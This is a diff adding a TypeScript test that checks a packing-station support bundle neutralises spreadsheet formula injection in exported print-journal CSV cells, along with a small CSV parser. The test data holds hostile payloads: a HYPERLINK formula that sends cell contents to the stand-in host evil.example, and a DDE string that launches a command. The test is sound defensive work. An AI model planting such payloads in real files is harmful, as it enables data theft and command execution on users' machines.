@@ -143,4 +143,61 @@ describe('the support bundle', () => {
     expect(csv[2]).toContain(',printed,');
     expect(csv.join('\n')).not.toContain('ORD-DAY-BEFORE');
   });
+
+  it('writes journal cells that a spreadsheet would run as formulas as plain text', async () => {
+    const folder = tempFolder();
+    const db = openDatabase(join(folder, 'station.db'));
+    const journal = new PrintJournal(db, () => new Date('2026-03-02T07:00:00Z'));
+    const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
+    const hostile = {
+      operator: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      reasons: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'],
+    };
+    const run = journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
+    hostile.reasons.forEach((reason, index) => journal.markFailed(run.entries[index]?.id ?? -1, reason));
+
+    const file = join(folder, 'bundle.zip');
+    const clock = () => new Date('2026-03-02T08:15:00Z');
+    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal), clock)] });
+    db.close();
+
+    const rows = parseCsv(unzip(file)['journal/last-day.csv'] ?? '');
+    const header = rows[0] ?? [];
+    const body = rows.slice(1);
+    expect(body).toHaveLength(5);
+    const column = (name: string) => body.map((row) => row[header.indexOf(name)]);
+    expect(column('operator')).toEqual(Array(5).fill(`'${hostile.operator}`));
+    expect(column('reason')).toEqual(hostile.reasons.map((reason) => `'${reason}`));
+    for (const row of body) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
+
+/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const char = text[index]!;
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index += 1;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\n' || (char === '\r' && text[index + 1] === '\n')) {
+      if (char === '\r') index += 1;
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += char;
+  }
+  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
+  return rows;
+}
